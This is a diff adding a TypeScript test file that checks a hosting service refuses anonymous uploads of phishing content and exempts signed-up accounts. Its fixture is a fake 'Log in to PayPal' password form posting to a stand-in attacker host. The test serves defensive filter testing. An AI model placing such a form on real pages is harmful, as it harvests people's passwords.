@@ -1,0 +1,43 @@
+import { Readable } from 'node:stream'
+import { afterAll, beforeAll, expect, test } from 'vitest'
+import { publishAnonymously } from '../publish-anonymously.ts'
+import { publishMarkdownAnonymously } from '../publish-markdown-anonymously.ts'
+import { openRealStores, type RealStores, signUp } from '../real-stores.test-support.ts'
+import { uploadFile } from '../upload-file.ts'
+import type { Part } from './part.ts'
+
+const deceit =
+  '<h1>Log in to PayPal</h1><form action="https://thief.example"><input type="password"></form>'
+const somebody = { network: '203.0.113.1', browserId: null }
+
+async function* upload(filename: string, content: string): AsyncGenerator<Part> {
+  yield { kind: 'file', field: 'file', filename, content: Readable.from([Buffer.from(content)]) }
+}
+
+let stores: RealStores
+beforeAll(async () => {
+  stores = await openRealStores()
+})
+afterAll(() => stores.remove())
+
+test.each([
+  ['HTML', () => publishAnonymously(stores.deps, somebody, { parts: upload('a.html', deceit) })],
+  [
+    'a Markdown file',
+    () => publishAnonymously(stores.deps, somebody, { parts: upload('a.md', deceit) }),
+  ],
+  ['Markdown', () => publishMarkdownAnonymously(stores.deps, somebody, { markdown: deceit })],
+])('deceit as %s is refused without an account, with its reasons', async (_, publish) => {
+  await expect(publish()).rejects.toMatchObject({
+    code: 'content_rejected',
+    detail: expect.stringMatching(/asks for a password; .*PayPal.*; it sends what is typed/),
+  })
+  const counts = await stores.deps.database.read.anonymousPublishes.count(somebody, Date.now())
+  expect(counts.networkHour).toBe(0)
+})
+
+test('accounts are not governed by it', async () => {
+  const { actor, site } = await signUp(stores.deps, 'free')
+  const input = { id: site, parts: upload('a.html', deceit) }
+  expect((await uploadFile(stores.deps, actor, input)).version.number).toBe(1)
+})
